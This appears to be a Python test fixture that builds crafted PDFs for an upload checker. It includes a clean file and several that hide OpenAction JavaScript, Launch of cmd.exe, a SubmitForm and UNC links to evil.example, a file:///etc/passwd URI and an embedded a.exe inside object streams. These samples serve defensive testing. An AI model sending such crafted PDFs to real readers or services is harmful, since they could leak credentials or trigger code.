"""Crafted PDFs for the upload checks: a clean one, and ones hiding actions in object streams."""

import binascii
import zlib

MINIMAL_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
)


def pdf_with_object_stream(catalog_extra: bytes, hidden: dict[int, bytes], *, filters: str = "hex") -> bytes:
    """A PDF 1.5 whose objects ``hidden`` live in one object stream encoded with ``filters``
    (``hex``: /ASCIIHexDecode; ``hex+flate``: [/ASCIIHexDecode /FlateDecode]), found through a
    cross-reference stream. Objects 1 to 3 are the catalog (with ``catalog_extra``), pages, page."""
    plain = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
    }
    numbers = sorted(hidden)
    bodies, offsets, position = [], [], 0
    for number in numbers:
        offsets.append(f"{number} {position}".encode())
        bodies.append(hidden[number])
        position += len(hidden[number]) + 1
    header = b" ".join(offsets) + b" "
    content = header + b"\n".join(bodies) + b"\n"
    if filters == "hex":
        encoded, names = binascii.hexlify(content) + b">", b"/ASCIIHexDecode"
    else:
        encoded, names = binascii.hexlify(zlib.compress(content)) + b">", b"[/ASCIIHexDecode/FlateDecode]"
    stream_number = max([*plain, *numbers]) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    where = {}
    for number, body in plain.items():
        where[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    where[stream_number] = len(out)
    out += (
        f"{stream_number} 0 obj\n<</Type/ObjStm/N {len(numbers)}/First {len(header)}/Length {len(encoded)}".encode()
        + b"/Filter "
        + names
        + b">>\nstream\n"
        + encoded
        + b"\nendstream\nendobj\n"
    )
    size = xref_number + 1
    rows = bytearray()
    for number in range(size):
        if number in where:
            rows += bytes([1]) + where[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number in hidden:
            rows += bytes([2]) + stream_number.to_bytes(4, "big") + numbers.index(number).to_bytes(2, "big")
        elif number == xref_number:
            rows += bytes([1]) + len(out).to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    xref_at = len(out)
    out += (
        f"{xref_number} 0 obj\n<</Type/XRef/Size {size}/W[1 4 2]/Root 1 0 R/Length {len(rows)}>>\nstream\n".encode()
        + bytes(rows)
        + b"\nendstream\nendobj\n"
        + f"startxref\n{xref_at}\n%%EOF\n".encode()
    )
    return bytes(out)


# An /OpenAction into an object stream encoded with /ASCIIHexDecode holding /S /JavaScript.
HEX_OBJECT_STREAM_JAVASCRIPT = pdf_with_object_stream(
    b"/OpenAction 4 0 R", {4: b"<</S/JavaScript/JS(app.alert\\(1\\))>>"}
)
HEX_FLATE_OBJECT_STREAM_JAVASCRIPT = pdf_with_object_stream(
    b"/OpenAction 4 0 R", {4: b"<</S/JavaScript/JS 5 0 R>>", 5: b"(app.alert\\(1\\))"}, filters="hex+flate"
)
# A link that opens a document on a UNC path (/GoToR), and one whose /URI is a UNC or file address.
GOTOR_UNC = pdf_with_object_stream(
    b"/OpenAction 4 0 R", {4: b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0 /Fit]>>"}
)
URI_UNC = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>"})
URI_FILE = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/URI/URI(file:///etc/passwd)>>"})
LAUNCH = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/Launch/F(cmd.exe)>>"})
SUBMIT_FORM = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/SubmitForm/F(https://evil.example)>>"})
IMPORT_DATA = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/ImportData/F(data.fdf)>>"})
GOTOE = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/GoToE/T<</R/C/N(x)>>>>"})
RICH_MEDIA = pdf_with_object_stream(b"", {4: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>"})
EMBEDDED_FILE = pdf_with_object_stream(b"/Names 4 0 R", {4: b"<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>", 5: b"<<>>"})
JS_NAME_TREE = pdf_with_object_stream(b"/Names 4 0 R", {4: b"<</JavaScript<</Names[]>>>>"})
AA_JS = pdf_with_object_stream(b"/AA 4 0 R", {4: b"<</O<</S/JavaScript/JS(x)>>>>"})
# Allowed: a web link and an internal jump, also inside an object stream.
URI_HTTPS = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/URI/URI(https://spacemarket.example/help)>>"})
GOTO_PAGE = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/GoTo/D[3 0 R /Fit]>>"})
# A 3D annotation whose view runs JavaScript when it opens, an article-thread action, and a
# reference XObject drawing a page of a file on a UNC path.
THREE_D_ON_INSTANTIATE = pdf_with_object_stream(
    b"",
    {
        4: b"<</Type/Annot/Subtype/3D/Rect[0 0 100 100]/3DD 5 0 R>>",
        5: b"<</Type/3D/Subtype/U3D/OnInstantiate(app.alert\\(1\\))>>",
    },
)
THREAD_ACTION = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/Thread/D 0/F(\\\\evil.example\\t.pdf)>>"})
REFERENCE_XOBJECT = pdf_with_object_stream(
    b"", {4: b"<</Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</F(\\\\evil.example\\share\\p.pdf)/Page 0>>>>"}
)
HIDE_ACTION = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/Hide/T(field)>>"})
SCREEN_ANNOTATION = pdf_with_object_stream(b"", {4: b"<</Type/Annot/Subtype/Screen/Rect[0 0 1 1]>>"})
POSTSCRIPT_XOBJECT = pdf_with_object_stream(b"", {4: b"<</Type/XObject/Subtype/PS>>"})
# Allowed: a "next page" button, a tagged structure (/S names a structure type there) and a
# transparency group (/S names the group's kind), as office and scanning software write them.
NAMED_NEXT_PAGE = pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<</S/Named/N/NextPage>>"})
TAGGED = pdf_with_object_stream(
    b"/StructTreeRoot 4 0 R/MarkInfo<</Marked true>>",
    {
        4: b"<</Type/StructTreeRoot/K 5 0 R>>",
        5: b"<</Type/StructElem/S/P/P 4 0 R>>",
        6: b"<</S/Transparency/CS/DeviceRGB>>",
    },
)
